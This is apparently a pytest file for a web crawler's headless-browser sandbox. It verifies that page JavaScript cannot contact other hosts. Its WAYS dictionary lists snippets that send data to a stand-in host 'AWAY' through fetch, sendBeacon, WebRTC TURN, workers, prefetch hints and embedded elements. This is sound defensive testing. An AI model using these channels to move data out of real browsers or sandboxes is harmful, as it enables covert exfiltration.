"""Ways by which a page may try to reach the network around us: no packet leaves but through our own door."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import NoReturn

import pytest

from crawler.browser import find_browser
from crawler.browser.world import GUARD
from tests.test_browser import LIST, drawn, titles


@pytest.fixture(autouse=True)
def chromium(missing: Callable[[str], NoReturn]) -> str:
    return find_browser("auto") or missing("no Chromium is installed: bash tests/servers.sh")


@dataclass
class Elsewhere(asyncio.DatagramProtocol):
    """Another machine: a port on which it hears whatever comes, by TCP or UDP."""

    port: int = 0
    heard: list[str] = field(default_factory=list)

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.heard.append(f"udp {data[:40]!r}")

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append(f"tcp {(await reader.read(200))[:80]!r}")
        writer.close()


@asynccontextmanager
async def listening() -> AsyncIterator[Elsewhere]:
    other = Elsewhere()
    async with await asyncio.start_server(other.connected, "127.0.0.1", 0) as server:
        other.port = server.sockets[0].getsockname()[1]
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(lambda: other, local_addr=("127.0.0.1", other.port))
        yield other
        transport.close()


#: Each tries to reach AWAY, which stands for the address of another machine, without asking for a page's own data.
WAYS = {
    "peers": """const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:AWAY'},
        {urls: ['turn:AWAY?transport=tcp', 'turn:AWAY?transport=udp'], username: 'u', credential: 'p'}]});
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));""",
    "a document of its own making": """const made = URL.createObjectURL(new Blob([
        `<script>fetch('http://AWAY/a', {method: 'POST', body: 'x'})
        ;
        new Image().src = 'http://AWAY/b'; navigator.sendBeacon('http://AWAY/c', 'x');<\\/script>
        <img src=http://AWAY/d><iframe src=http://AWAY/e></iframe>`], {type: 'text/html'}));
        for (const at of [made, 'data:text/html,<img src=http://AWAY/f>']) {
          const frame = document.createElement('iframe'); frame.src = at; document.body.appendChild(frame);
        }
        const frame = document.createElement('iframe');
        frame.srcdoc = '<img src=http://AWAY/g><link rel=stylesheet href=http://AWAY/h>';
        document.body.appendChild(frame);""",
    "workers": """const made = URL.createObjectURL(new Blob([`fetch('http://AWAY/a', {method: 'POST', body: 'x'}).catch(() => 0);
        try { new WebSocket('ws://AWAY/b') } catch (e) {} try { importScripts('http://AWAY/c') } catch (e) {}`],
        {type: 'text/javascript'}));
        new Worker(made); new SharedWorker(made);""",
    "hints": """document.head.innerHTML += ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender',
        'manifest', 'icon']
        .map((rel) => `<link rel="${rel}" as="fetch" href="http://AWAY/${rel}" crossorigin>`).join('');
        const rules = document.createElement('script'); rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['http://AWAY/rule']}],
        prerender: [{source: 'list', urls: ['/ahead']}]});
        document.head.append(rules);""",
    "sockets": """try { new WebTransport('https://AWAY/a') } catch (e) {} try { new WebSocket('ws://AWAY/b') } catch (e) {}
        fetch('http://AWAY/c', {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}).catch(() => 0);
        addEventListener('pagehide', () => navigator.sendBeacon('http://AWAY/d', 'x'));""",
    "elements": """document.body.insertAdjacentHTML('beforeend', [
        'object data', 'embed src', 'video src', 'audio src',
        'img srcset', 'input type=image src', 'iframe src'].map((one) => `<${one}=http://AWAY/x>`).join('')
        + '<style>@import url(http://AWAY/y); body { background: url(http://AWAY/z) }</style><video poster=http://AWAY/v></video>'
        + '<svg><image href="http://AWAY/s"/><use href="http://AWAY/u#a"/></svg>');""",
}


@pytest.fixture
def unaided(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave it to the flags of the browser alone: what our script takes away from pages, some frame may get hold of."""
    script = GUARD.read_text("utf-8")
    assert "delete window[name]" in script
    (tmp_path / "guarding.js").write_text(script.replace("delete window[name]", "name"), "utf-8")
    monkeypatch.setattr("crawler.browser.chromium.GUARD", tmp_path / "guarding.js")


@pytest.mark.usefixtures("unaided")
async def test_nothing_leaves_but_through_our_own_door(tmp_path: Path) -> None:
    async with listening() as other:
        ways = "".join(f"try {{ {way} }} catch (e) {{}}\n" for way in WAYS.values())
        script = ways.replace("AWAY", f"127.0.0.1:{other.port}")
        asked, _ = await drawn(
            f"document.getElementById('root').innerHTML = `<ul>{LIST}</ul>`; {script}", tmp_path / "out", via="both"
        )
    # What a worker imports comes through our door, which asks first whether it may.
    assert [one for one in other.heard if not one.startswith("tcp b'GET /robots.txt ")] == []
    assert {method for method, _ in asked} == {"GET"} and "/ahead" not in {path for _, path in asked}
    assert sum(titles(tmp_path / "out").values()) == 4
